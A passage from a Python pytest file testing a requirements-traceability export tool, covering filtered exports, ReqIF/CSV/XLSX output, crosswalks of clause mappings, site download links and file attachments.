                         ("'sbom' in", "invalid syntax"), ("needs[0]", "Subscript is not allowed")):
        proc = run_export(needs_json, tmp_path / "out", "--filter", bad)
        assert proc.returncode == 2 and len(proc.stderr.strip().splitlines()) == 1 and message in proc.stderr, proc.stderr
    assert not (tmp_path / "out").exists()


def test_a_failed_export_keeps_the_previous_one_and_foreign_folders(needs_json, tmp_path):
    out = tmp_path / "out"
    assert run_export(needs_json, out, "--no-sbom").returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    (tmp_path / "bad.json").write_text("{")
    assert run_export(tmp_path / "bad.json", out).returncode == 2
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("keep")
    proc = run_export(needs_json, mine, "--no-sbom")
    assert proc.returncode == 2 and "not an earlier export" in proc.stderr
    assert [p.name for p in mine.iterdir()] == ["notes.txt"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.json", "mine", "out"]


# ------------------------------------------------------------------ filters

@pytest.mark.parametrize("args, recorded, keep", [
    (["--filter", "'patient-safety' in tags"], "'patient-safety' in tags",
     lambda n: "patient-safety" in n["tags"]),
    (["--stakeholder", "healthcare-provider", "--phase", "post-market"],
     "'healthcare-provider' in stakeholder and 'post-market' in phase",
     lambda n: "healthcare-provider" in (n["stakeholder"] or []) and "post-market" in (n["phase"] or [])),
    (["--tag", "sbom", "--filter", "type == 'req' or id.startswith('DC_')"],
     "'sbom' in tags and (type == 'req' or id.startswith('DC_'))",
     lambda n: "sbom" in n["tags"] and (n["type"] == "req" or n["id"].startswith("DC_"))),
])
def test_filtered_export_selects_and_records_the_filter(args, recorded, keep, needs_json, needs, tmp_path):
    proc = run_export(needs_json, tmp_path / "out", "--no-sbom", *args)
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "out"
    expected = {i for i, n in needs.items() if keep(n)}
    assert expected and expected != set(needs)
    titles, _ = read_csvs(out, [])
    assert set(titles) == expected
    read = ReadReqIF(out / "traceability.reqif")
    assert set(read.needs) == expected
    # links to needs the filter left out are kept, as unresolved links of their source
    assert read.links == links_of({i: needs[i] for i in expected}, link_types_of(json.loads(needs_json.read_text())))
    exported = json.loads((out / "needs.json").read_text())
    assert set(exported["versions"][""]["needs"]) == expected
    # the crosswalk: the mappings of the selected needs, the clauses named though not selected
    _, crosswalk = crosswalk_rows_csv(out / "crosswalk.csv")
    assert Counter(crosswalk) == Counter(r for r in mappings_of(needs) if r[0] in expected)
    assert json.loads((out / "manifest.json").read_text())["export"]["filter"] == recorded
    about = dict(openpyxl.load_workbook(out / "traceability.xlsx")["About"].iter_rows(min_row=2, values_only=True))
    assert untext(about["filter"]) == recorded


# ------------------------------------------------------------------ another project's needs.json

def test_foreign_needs_json_carries_its_types_fields_and_links(tmp_path):
    needs = {
        "SPEC_BRAKE": {"id": "SPEC_BRAKE", "type": "spec", "type_name": "Specification", "title": "Brake pressure",
                       "content": "Pressure builds in 150 ms.\n\nMeasured at the caliper.", "docname": "specs/brakes",
                       "sections": ["Pressure", "Brakes"], "asil": "D", "effort": 3, "reviewed": True,
                       "owner_info": {"team": "chassis", "since": 2019}, "variants": ["eu", "us"], "status": "open",
                       "satisfies": [], "satisfies_back": ["IMPL_ABS"], "links": [], "links_back": ["IMPL_ABS"]},
        "IMPL_ABS": {"id": "IMPL_ABS", "type": "impl", "type_name": "Implementation", "title": "ABS controller",
                     "content": "", "docname": "impl/abs", "sections": ["ABS"], "asil": "B", "effort": 8,
                     "satisfies": ["SPEC_BRAKE", "SPEC_BRAKE.part_a", "GONE_9"], "satisfies_back": [],
                     "links": ["SPEC_BRAKE"], "links_back": []},
    }
    needs_json = tmp_path / "needs.json"
    needs_json.write_text(json.dumps(foreign_document(needs, "Brakes & <Co>")), encoding="utf-8")
    proc = run_export(needs_json, tmp_path / "out", "--no-sbom")
    assert proc.returncode == 0, proc.stderr
    out = tmp_path / "out"
    link_types = ["links", "satisfies"]
    expected_links = links_of(needs, link_types)
    assert read_xlsx(out / "traceability.xlsx", link_types)[1] == expected_links
    assert read_csvs(out, link_types)[1] == expected_links
    read = ReadReqIF(out / "traceability.reqif")
    assert read.links == expected_links
    spec = read.needs["SPEC_BRAKE"]
    assert (spec["type"], spec["asil"], spec["effort"], spec["reviewed"], spec["variants"], spec["status"]) == \
        ("Specification", "D", "3", "true", ["eu", "us"], "open")
    assert json.loads(spec["owner_info"]) == {"team": "chassis", "since": 2019}
    assert spec["ReqIF.Text"] == needs["SPEC_BRAKE"]["content"]
    assert list(reqif_schema().iter_errors(str(out / "traceability.reqif"))) == []
    workbook = openpyxl.load_workbook(out / "traceability.xlsx")
    assert {"Specification", "Implementation"} <= set(workbook.sheetnames)
    assert workbook["Requirements"].max_row == 1  # a type the file does not have: header only
    assert [c.value for c in workbook["Crosswalk"][1]] == CROSSWALK_COLUMNS  # no clauses: no mappings
    assert workbook["Crosswalk"].max_row == 1
    assert crosswalk_rows_csv(out / "crosswalk.csv") == (CROSSWALK_COLUMNS, [])
    assert {t.long_name for t in read.content.spec_types if type(t).__name__ == "ReqIFSpecRelationType"} == \
        {"links", "satisfies"}
    header = [c.value for c in workbook["Specification"][1]]
    assert {"asil", "effort", "reviewed", "owner_info", "variants", "status", "satisfies_back"} <= set(header)
    assert (out / "type-spec.csv").is_file() and (out / "type-impl.csv").is_file()
    assert json.loads((out / "needs.json").read_text()) == json.loads(needs_json.read_text())


def test_crosswalk_of_another_project_is_read_from_its_needs_json(tmp_path):
    """Mapping link types are the link types that point to clauses only; a clause's framework is
    its part_of; markers come from --evidence, else the built-in table, else the link's name."""
    def need(need_id, kind, **fields):
        base = {"id": need_id, "type": kind, "type_name": kind.title(), "title": f"{kind} {need_id}",
                "content": "", "docname": "index"}
        for link in ("links", "part_of", "maps_primary", "maps_custom"):
            base.setdefault(link, [])
            base.setdefault(f"{link}_back", [])
        return {**base, **fields}

    needs = {
        "STD_X": need("STD_X", "standard", doc_id="X 1:2020"),
        "CL_X_1": need("CL_X_1", "clause", part_of=["STD_X"], clause_ref="1", clause_title="Scope"),
        "CL_X_2": need("CL_X_2", "clause", part_of=["STD_X"], clause_ref="2"),
        "CL_LOOSE": need("CL_LOOSE", "clause", clause_ref="A.1"),
        "SPEC_B": need("SPEC_B", "spec", maps_custom=["CL_X_1"], section="2"),
        "SPEC_A": need("SPEC_A", "spec", section="1", maps_primary=["CL_X_2", "CL_X_1"],
                       maps_custom=["CL_LOOSE", "GONE_1"], links=["CL_X_1", "STD_X"]),  # links: not only clauses
    }
    needs_json = tmp_path / "needs.json"
    needs_json.write_text(json.dumps(foreign_document(needs)), encoding="utf-8")
    unjudged = ("see also", "topic only", "", "")
    expected = [("SPEC_A", "spec SPEC_A", "1", "", "", "CL_LOOSE", "A.1", "", *unjudged, "{custom}", "maps_custom"),
                ("SPEC_A", "spec SPEC_A", "1", "STD_X", "X 1:2020", "CL_X_1", "1", "Scope", *unjudged, "[P]", "maps_primary"),
                ("SPEC_A", "spec SPEC_A", "1", "STD_X", "X 1:2020", "CL_X_2", "2", "", *unjudged, "[P]", "maps_primary"),
                ("SPEC_B", "spec SPEC_B", "2", "STD_X", "X 1:2020", "CL_X_1", "1", "Scope", *unjudged, "{custom}", "maps_custom")]
    for args, custom in (([], "maps_custom"), (["--evidence", "maps_custom=[C]"], "[C]")):
        out = tmp_path / f"out{len(args)}"
        proc = run_export(needs_json, out, "--no-sbom", *args)
        assert proc.returncode == 0, proc.stderr
        rows = [tuple(v.replace("{custom}", custom) for v in r) for r in expected]
        assert crosswalk_rows_csv(out / "crosswalk.csv") == (CROSSWALK_COLUMNS, rows)
        assert crosswalk_rows_xlsx(out / "traceability.xlsx") == (CROSSWALK_COLUMNS, rows)
        read = ReadReqIF(out / "traceability.reqif")
        assert read.relation_type_names == {"links": "links", "part_of": "part_of",
                                            "maps_primary": "maps_primary [P]", "maps_custom": f"maps_custom {custom}"}
        assert read.links == links_of(needs, ["links", "part_of", "maps_primary", "maps_custom"])
        assert list(reqif_schema().iter_errors(str(out / "traceability.reqif"))) == []
    proc = run_export(needs_json, tmp_path / "bad", "--no-sbom", "--evidence", "maps_custom")
    assert proc.returncode == 2 and not (tmp_path / "bad").exists()
    assert proc.stderr == "kb_export: error: --evidence 'maps_custom': give LINK=MARKER, e.g. maps_primary=[P]\n"


# ------------------------------------------------------------------ on the site

def test_site_offers_every_export_file_for_download(site):
    html = site.html("requirements/traceability/index.html")
    links = re.findall(r'<a class="kb-download reference external" href="([^"]+)"', html)
    assert {Path(l).name for l in links} == EVERY_FILE
    page_dir = site.outdir / "requirements" / "traceability"
    for link in links:
        assert (page_dir / link).resolve().is_file(), link
    export = site.outdir / "export"
    check = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=export, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout
    assert (export / "needs.json").read_bytes() == (site.outdir / "needs.json").read_bytes()


def test_matrix_pages_print_landscape_with_repeated_headers(site):
    for page in ("requirements/traceability/matrix.html", "requirements/traceability/by-stakeholder.html"):
        html = site.html(page)
        assert re.search(r'<link[^>]+href="[./]*_static/print\.css[^"]*"[^>]+media="print"', html) or \
            re.search(r'<link[^>]+media="print"[^>]+href="[./]*_static/print\.css', html), page
        assert re.search(r'<script src="[./]*_static/print\.js', html), page
    css = (site.outdir / "_static" / "print.css").read_text()
    assert re.search(r"@page\s*{[^}]*size:\s*A4 landscape", css)
    assert re.search(r"thead\s*{[^}]*display:\s*table-header-group", css)
    js = (site.outdir / "_static" / "print.js").read_text()
    assert "beforeprint" in js and "afterprint" in js and "pageSize = 0" in js


def test_attach_refuses_a_missing_file_or_a_clashing_name_and_writes_nothing(needs_json, tmp_path):
    out = tmp_path / "out"
    missing = run_export(needs_json, out, "--no-sbom", "--attach", str(tmp_path / "nowhere.json"))
    assert missing.returncode == 2 and out.exists() is False
    assert missing.stderr == f"kb_export: error: {tmp_path / 'nowhere.json'}: the file to attach does not exist\n"
    clash = tmp_path / "manifest.json"
    clash.write_text("{}", encoding="utf-8")
    refused = run_export(needs_json, out, "--no-sbom", "--attach", str(clash))
    assert refused.returncode == 2 and out.exists() is False
    assert "attachments named like another file of the export: manifest.json" in refused.stderr
    kept = tmp_path / "device.vex.json"
    kept.write_text('{"x": 1}\n', encoding="utf-8")
    assert run_export(needs_json, out, "--no-sbom", "--attach", str(kept)).returncode == 0
    assert (out / "device.vex.json").read_bytes() == kept.read_bytes()
    assert "device.vex.json" in (out / "SHA256SUMS").read_text(encoding="utf-8")
